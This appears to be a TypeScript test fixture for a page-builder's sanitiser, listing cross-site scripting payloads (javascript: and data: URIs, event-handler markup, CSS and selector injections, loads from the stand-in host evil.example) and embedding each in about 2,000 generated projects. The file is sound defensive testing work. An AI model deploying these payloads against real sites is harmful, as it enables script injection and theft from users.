/**
 * Attacks for tests: known ways to run code in a page. Each attack calls `hit()`, so that a browser that executes one can
 * report it. They were written by hand after the kinds in public cheat sheets, and are not copied.
 */
const CODE = 'hit()';

const SCHEMES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `java\r\nscript:${CODE}`,
  `java\u0000script:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript&#58;${CODE}`,
  `&#106;avascript:${CODE}`,
  `java&Tab;script:${CODE}`,
  `javascript://%0a${CODE}`,
  `javascript:/*--></title></style></textarea></script>*/${CODE}`,
  `vbscript:${CODE}`,
  `livescript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CODE}"/>`,
  `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KCkiLz4=`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${CODE}</script>`,
  `blob:https://example.com/${CODE}`,
  'filesystem:https://example.com/x',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  'https://user:pass@evil.example/',
  'about:srcdoc',
  'view-source:https://example.com',
  'feed:javascript:hit()',
  `https://example.com/" onclick="${CODE}`,
  `https://example.com/' onmouseover='${CODE}`,
  `https://example.com/\`onfocus=${CODE}`,
  `#" autofocus onfocus="${CODE}`,
  `mailto:a@b.c" onclick="${CODE}`,
  `tel:1" onclick="${CODE}`,
];

const MARKUP = [
  `<script>${CODE}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${CODE}>`,
  `<img/src="x"/onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CODE}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe onload=${CODE}></iframe></foreignObject></svg>`,
  `<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
  `<math href="javascript:${CODE}">x</math>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<button formaction="javascript:${CODE}">x</button>`,
  `<input autofocus onfocus=${CODE}>`,
  `<select autofocus onfocus=${CODE}>`,
  `<textarea autofocus onfocus=${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<audio src onerror=${CODE}>`,
  `<body onload=${CODE}>`,
  `<base href="javascript:${CODE}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  `<link rel="stylesheet" href="data:text/css,*{}">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<template><script>${CODE}</script></template>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<p/onclick=${CODE}>x`,
  `</p><script>${CODE}</script><p>`,
  `</style><script>${CODE}</script>`,
  `</title><script>${CODE}</script>`,
  `--><script>${CODE}</script>`,
  `]]><script>${CODE}</script>`,
  `"><script>${CODE}</script>`,
  `'><script>${CODE}</script>`,
  `" onmouseover="${CODE}" x="`,
  `' onmouseover='${CODE}' x='`,
  `\` onmouseover=\`${CODE}\``,
  `<<script>${CODE}//<</script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `\u003cscript\u003e${CODE}\u003c/script\u003e`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `<x onclick=${CODE} style=display:block>x`,
  `<xmp><img src=x onerror=${CODE}></xmp>`,
  `<plaintext><script>${CODE}`,
  `<portal src="javascript:${CODE}">`,
  `<isindex action="javascript:${CODE}">`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
];

const STYLES = [
  `expression(${CODE})`,
  `url("javascript:${CODE}")`,
  `url(javascript:${CODE})`,
  `url('data:image/svg+xml,<svg onload=${CODE}>')`,
  `url(//evil.example/x.png)`,
  `url(http://evil.example/x.png)`,
  `red;background:url(//evil.example/a)`,
  `red}body{background:url(//evil.example/b)}`,
  `red}</style><script>${CODE}</script>`,
  `</style><img src=x onerror=${CODE}>`,
  `\\75rl(javascript:${CODE})`,
  `u\\rl(//evil.example)`,
  `image-set("//evil.example/x.png" 1x)`,
  `-webkit-image-set(url(//evil.example/x) 1x)`,
  `cross-fade(url(//evil.example/x), red)`,
  `element(#x)`,
  `attr(onclick)`,
  `env(safe-area-inset-top)`,
  `@import "//evil.example/x.css"`,
  `red/*</style><script>${CODE}</script>*/`,
  `"</style><script>${CODE}</script>"`,
  `red !ie`,
  `url("https://example.com/x" + attr(href))`,
  `url(https://example.com/a"b)`,
  `red\n}\n*{display:none`,
  `calc(1px + url(//evil.example))`,
  `var(--x, url(//evil.example/x))`,
  `src("https://evil.example")`,
  `<!-- red -->`,
];

const SELECTORS = [
  '*',
  'body',
  'html',
  ':root',
  'dojang-badge',
  '.x, dojang-badge',
  '.x ~ dojang-badge',
  '.x + *',
  ':not(.x)',
  ':has(.x)',
  '.x:not(:hover)',
  `.x{}</style><script>${CODE}</script>`,
  '.x{color:red}@import "//evil.example/x"',
  '.x[href^="https"]',
  '.x::part(a)',
  '@font-face',
  '.x\\{',
  '.x/**/body',
  ':host',
  '.dojang-badge',
  '#dojang',
];

export const VECTORS = { schemes: SCHEMES, markup: MARKUP, styles: STYLES, selectors: SELECTORS };

type Json = Record<string, unknown>;

const page = (components: unknown[], styles: unknown[] = []): Json => ({
  styles,
  pages: [{ frames: [{ component: { type: 'wrapper', components } }] }],
});
const text = (content: string) => ({ type: 'textnode', content });

/** Every attack at every relevant position: about 2,000 projects, each with a name. */
export function* attackProjects(): Generator<{ name: string; project: Json }> {
  const anywhere = [...SCHEMES, ...MARKUP, ...STYLES, ...SELECTORS];
  for (const [index, vector] of anywhere.entries()) {
    const places: Record<string, Json> = {
      text: page([text(vector), { tagName: 'p', components: [text(vector)] }]),
      content: page([{ tagName: 'p', type: 'text', content: vector }]),
      components: page([{ tagName: 'div', components: vector }, vector]),
      tag: page([{ tagName: vector, components: [text('x')] }]),
      type: page([{ type: vector, components: [text('x')] }]),
      class: page([{ tagName: 'p', classes: [vector, { name: vector }], components: [text('x')] }]),
      id: page([{ tagName: 'p', attributes: { id: vector }, components: [text('x')] }]),
      href: page([
        { tagName: 'a', attributes: { href: vector, target: vector, rel: vector }, components: [text('x')] },
      ]),
      src: page([{ tagName: 'img', attributes: { src: vector, srcset: vector, alt: vector, width: vector } }]),
      attribute: page([
        { tagName: 'p', attributes: { [vector]: vector, title: vector, 'aria-label': vector, lang: vector } },
      ]),
      handler: page([
        { tagName: 'p', attributes: { onclick: vector, onload: vector, style: vector, 'xlink:href': vector } },
      ]),
      map: page([
        {
          type: 'page-map',
          tagName: 'div',
          attributes: { 'data-lat': '1', 'data-lng': '2', 'data-zoom': vector, 'data-label': vector, srcdoc: vector },
        },
        { type: 'page-map', tagName: 'div', attributes: { 'data-lat': vector, 'data-lng': vector, src: vector } },
      ]),
      style: page([{ tagName: 'p', style: { color: vector, background: vector, content: vector, '--x': vector } }]),
      styleText: page([{ tagName: 'p', style: `color:red;background:${vector}` }]),
      rule: page(
        [{ tagName: 'p', classes: ['x'] }],
        [
          {
            selectors: ['x'],
            style: { color: vector, 'background-image': vector, [vector]: 'red', 'font-family': vector },
          },
        ],
      ),
      selector: page(
        [{ tagName: 'p', classes: ['x'] }],
        [
          { selectors: [vector], style: { color: 'red' } },
          { selectors: [], selectorsAdd: vector, style: { color: 'red' } },
          { selectors: ['x'], state: vector, style: { color: 'red' } },
          { selectors: ['x'], atRuleType: 'media', mediaText: vector, style: { color: 'red' } },
          { selectors: ['x'], atRuleType: vector, style: { color: 'red' } },
        ],
      ),
      svg: page([
        {
          type: 'svg',
          tagName: 'svg',
          attributes: { viewBox: vector, onload: vector, href: vector },
          components: [
            {
              type: 'svg-in',
              tagName: 'path',
              attributes: { d: vector, fill: vector, onclick: vector, style: vector },
            },
            { tagName: vector, components: [text(vector)] },
            { tagName: 'style', components: [text(vector)] },
            { tagName: 'a', attributes: { href: vector }, components: [text(vector)] },
            text(vector),
          ],
        },
      ]),
    };
    for (const [place, project] of Object.entries(places)) yield { name: `${place} ${index}`, project };
    yield { name: `form ${index}`, project: page([attackedForm(vector)]) };
    yield { name: `in a form ${index}`, project: inForm(places) };
  }
}

/** A form with the attack in every text of the form, and in every attribute of its elements. */
function attackedForm(vector: string): Json {
  const own = {
    action: vector,
    formaction: vector,
    method: 'dialog',
    name: vector,
    value: vector,
    type: 'image',
    onsubmit: vector,
    oninput: vector,
    autofocus: 'true',
    autocomplete: vector,
    form: vector,
    pattern: vector,
    'data-form': vector,
    'data-name': vector,
    'data-key': vector,
    'data-thanks': vector,
  };
  const box = (classes: string[], components: unknown[]) => ({ tagName: 'div', classes, attributes: own, components });
  const option = box(['option'], [box(['option-mark'], [text(vector)]), box(['option-text'], [text(vector)])]);
  return {
    type: 'page-form',
    tagName: 'form',
    attributes: own,
    components: [
      box(['field', 'kind-text'], [box(['field-label'], [text(vector)]), box(['field-input'], [text(vector)])]),
      box(['field', 'kind-long'], [box(['field-help'], [text(vector)]), { tagName: vector, classes: ['field-input'] }]),
      box(['field', 'kind-one'], [option, { tagName: 'input', attributes: own }]),
      box(['field', vector], [option]),
      box(['consent'], [box(['consent-check'], [box(['option-mark'], []), text(vector)])]),
      { type: 'page-form', tagName: 'form', attributes: own, components: [text(vector)] },
      { tagName: 'button', classes: ['form-send'], attributes: own, components: [text(vector)] },
    ],
  };
}

/** The contents of the other attacks, inside of a form and of its parts. */
function inForm(places: Record<string, Json>): Json {
  const inner = Object.values(places).flatMap((project) => {
    const [first] = project.pages as { frames: { component: { components: unknown[] } }[] }[];
    return first?.frames[0]?.component.components ?? [];
  });
  const within = (name: string) => ({ tagName: 'div', classes: [name], components: inner });
  return page([
    {
      type: 'page-form',
      tagName: 'div',
      components: [
        ...inner,
        { tagName: 'div', classes: ['field'], components: [within('field-label'), within('field-input')] },
        within('form-send'),
      ],
    },
  ]);
}
